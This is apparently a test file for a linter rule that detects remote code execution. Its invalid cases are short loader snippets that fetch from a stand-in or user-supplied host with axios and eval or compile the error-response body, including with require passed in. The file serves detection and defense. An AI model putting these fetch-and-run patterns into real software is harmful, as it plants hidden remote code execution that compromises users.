import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/remote-code-execution.ts'

// The error of a failed request carries the server's answer (axios: `error.response.data`), so a
// loader can hide its payload in an error response: flow.ts gives `catch (e)` around a request,
// and `.catch(e => …)` / `.then(ok, e => …)` on a request promise, the network label.
new RuleTester().run(rule, {
  valid: [
    { name: 'a catch around code that makes no request', code: "try { JSON.parse(input) } catch (e) { new Function('return 1')() }" },
    { name: 'an error only logged', code: "const axios = require('axios')\naxios.get('https://api.example.com').catch((e) => console.error(e.response && e.response.data))" },
    { name: 'a rejection handler of a promise that is not a request', code: 'Promise.resolve(1).catch((e) => eval(e))' },
  ],
  invalid: [
    {
      name: 'try/await request, compile the error body',
      code: "const axios = require('axios')\nasync function load(u) {\n  try {\n    await axios.get(u)\n  } catch (err) {\n    const run = new (Function.constructor)('require', err.response.data)\n    run(require)\n  }\n}\nload(process.argv[2])",
      errors: [{ severity: 'critical', line: 6 }],
    },
    {
      name: '.then(ok).catch(e => eval(body)) on a request',
      code: "const axios = require('axios')\naxios.post('https://status.invalid/ping', {}).then(() => {}).catch((error) => {\n  eval(error.response.data)\n})",
      errors: [{ severity: 'critical', line: 3 }],
    },
    {
      name: '.then(ok, fail) on a request',
      code: "const axios = require('axios')\naxios.get('https://status.invalid/ping').then(() => {}, (e) => { eval(e.response.data) })",
      errors: [{ severity: 'critical' }],
    },
  ],
})
